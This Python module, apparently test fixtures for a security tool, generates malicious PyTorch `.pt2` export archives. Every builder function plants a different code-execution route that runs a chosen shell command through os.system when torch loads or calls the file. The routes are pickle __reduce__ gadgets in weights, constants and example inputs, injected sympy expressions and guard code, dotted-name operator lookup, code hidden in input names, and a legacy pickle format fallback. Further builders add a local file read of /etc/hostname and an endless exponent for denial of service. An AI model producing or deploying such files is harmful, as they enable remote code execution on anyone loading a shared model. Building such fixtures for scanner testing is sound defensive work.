"""Hostile graphs of torch.export, files `.pt2`: torch runs most code when it loads them, some when they are called."""

from __future__ import annotations

import contextlib
import io
import json
import os
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch

_GRAPH, _CONSTANTS = "models/model.json", "data/constants/model_constants_config.json"
_WEIGHTS, _SAMPLE = "data/weights/model_weights_config.json", "data/sample_inputs/model.pt"


class _Call:
    """Calls a function when it is unpickled."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> Any:
        return self.call


class _Net(torch.nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.layer = torch.nn.Linear(2, 2)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        outputs: torch.Tensor = self.layer(x)
        return outputs


def _program(path: Path, changed: Callable[[dict[str, bytes]], None]) -> Path:
    """Write an honest program, and change its records."""
    file = io.BytesIO()
    torch.manual_seed(0)
    rows = {0: torch.export.Dim("rows", min=2, max=64)}
    torch.export.save(torch.export.export(_Net(), (torch.rand(3, 2),), dynamic_shapes=(rows,)), file)
    writer = torch._C.PyTorchFileWriter(str(path))
    with zipfile.ZipFile(file) as archive:
        records = {name.partition("/")[2]: archive.read(name) for name in archive.namelist()}
    changed(records)
    for name, content in records.items():
        if not name.startswith(".data/"):
            with contextlib.suppress(RuntimeError):  # records that the writer itself writes
                writer.write_record(name, content, len(content))
    writer.write_end_of_file()
    return path


def _with_graph(path: Path, changed: Callable[[dict[str, Any]], None]) -> Path:
    """Write an honest program, and change its graph."""

    def change(records: dict[str, bytes]) -> None:
        graph = json.loads(records[_GRAPH])
        changed(graph)
        records[_GRAPH] = json.dumps(graph).encode()

    return _program(path, change)


def _pickled(command: str) -> bytes:
    file = io.BytesIO()
    torch.save(_Call(os.system, command), file)
    return file.getvalue()


def pickled_weight(folder: Path, command: str) -> Path:
    """Write a program with a weight that is a pickle, which calls a shell."""

    def change(records: dict[str, bytes]) -> None:
        config = json.loads(records[_WEIGHTS])
        config["config"]["layer.weight"]["use_pickle"] = True
        records[_WEIGHTS], records["data/weights/weight_0"] = json.dumps(config).encode(), _pickled(command)

    return _program(folder / "model.pt2", change)


def pickled_constant(folder: Path, command: str) -> Path:
    """Write a program with a constant object that is a pickle, which calls a shell."""

    def change(records: dict[str, bytes]) -> None:
        payload = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}
        records[_CONSTANTS] = json.dumps({"config": {"x": payload}}).encode()
        records["data/constants/opaque_obj_0"] = pickle.dumps(_Call(os.system, command))

    return _program(folder / "model.pt2", change)


def pickled_example(folder: Path, command: str) -> Path:
    """Write a program whose example inputs are a pickle, which calls a shell."""
    return _program(folder / "model.pt2", lambda records: records.update({_SAMPLE: _pickled(command)}))


def expression_of_a_size(folder: Path, command: str) -> Path:
    """Write a program with a size whose expression calls a shell: sympy evaluates it."""

    def change(graph: dict[str, Any]) -> None:
        sizes = graph["graph_module"]["graph"]["tensor_values"]["x"]["sizes"]
        sizes[0]["as_expr"]["expr_str"] = f"__import__('os').system({command!r})"

    return _with_graph(folder / "model.pt2", change)


def guard_in_python(folder: Path, command: str) -> Path:
    """Write a program with a guard that calls a shell: torch compiles it into the module."""

    def change(graph: dict[str, Any]) -> None:
        graph["guards_code"] = [f"L['x'].size()[0] * 0 == __import__('os').system({command!r})"]

    return _with_graph(folder / "model.pt2", change)


def operator_by_a_dotted_name(folder: Path, command: str) -> Path:
    """Write a program with a node that calls a shell: torch looks up operators by name from its own module."""

    def change(graph: dict[str, Any]) -> None:
        node = graph["graph_module"]["graph"]["nodes"][0]
        node["target"] = "torch.serialization.os.system"
        node["inputs"] = [{"name": "command", "arg": {"as_string": command}, "kind": 1}]

    return _with_graph(folder / "model.pt2", change)


def python_in_a_name(folder: Path, command: str) -> Path:
    """Write a program with an input whose name contains a default value that calls a shell: names become code."""

    def change(graph: dict[str, Any]) -> None:
        text = json.dumps(graph).replace('"x"', json.dumps(f"x=__import__('os').system({command!r})"))
        graph.update(json.loads(text))

    return _with_graph(folder / "model.pt2", change)


def factory_of_a_dictionary(folder: Path, command: str) -> Path:
    """Write a program whose inputs are a defaultdict with a factory in a module that is imported by name."""

    def change(graph: dict[str, Any]) -> None:
        context = {"default_factory_module": "os", "default_factory_name": "getcwd", "dict_context": []}
        tree = {"type": "collections.defaultdict", "context": json.dumps(context), "children_spec": []}
        graph["graph_module"]["module_call_graph"][0]["signature"]["out_spec"] = json.dumps([1, tree])

    return _with_graph(folder / "model.pt2", change)


def compiled_library(folder: Path, command: str) -> Path:
    """Write a program with a library of AOTInductor, which is opened when the program is loaded."""
    name = "data/aotinductor/model/wrapper.so"
    return _program(folder / "model.pt2", lambda records: records.update({name: b"\x7fELF"}))


def format_before(folder: Path, command: str) -> Path:
    """Write the format of torch 2.7, which consists of pickles."""
    path = folder / "model.pt2"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("version", "8.14")
        for name in ("state_dict", "constants", "example_inputs"):
            archive.writestr(f"serialized_{name}.pt", _pickled(command))
        archive.writestr("serialized_exported_program.json", "{}")
    return path


def both_formats(folder: Path, command: str) -> Path:
    """Write an honest program with the older format in the same archive: torch uses that where the newer one fails."""
    path = _with_graph(folder / "model.pt2", lambda graph: graph.update(opset_version={"aten": 10**6}))
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("version", "8.14")
        archive.writestr("serialized_state_dict.pt", _pickled(command))
        archive.writestr("serialized_constants.pt", _pickled(command))
        archive.writestr("serialized_example_inputs.pt", _pickled(command))
        archive.writestr("serialized_exported_program.json", "{}")
    return path


def operator_that_opens_a_file(folder: Path, command: str) -> Path:
    """Write a program with a node that reads a tensor from a file of this machine."""

    def change(graph: dict[str, Any]) -> None:
        node = graph["graph_module"]["graph"]["nodes"][0]
        node["target"] = "torch.ops.aten.from_file.default"
        node["inputs"] = [{"name": "filename", "arg": {"as_string": "/etc/hostname"}, "kind": 1}]

    return _with_graph(folder / "model.pt2", change)


def endless_power(folder: Path, command: str) -> Path:
    """Write a program with a size that takes forever to compute."""

    def change(graph: dict[str, Any]) -> None:
        sizes = graph["graph_module"]["graph"]["tensor_values"]["x"]["sizes"]
        sizes[0]["as_expr"]["expr_str"] = "9**9**9**9**9**9"

    return _with_graph(folder / "model.pt2", change)
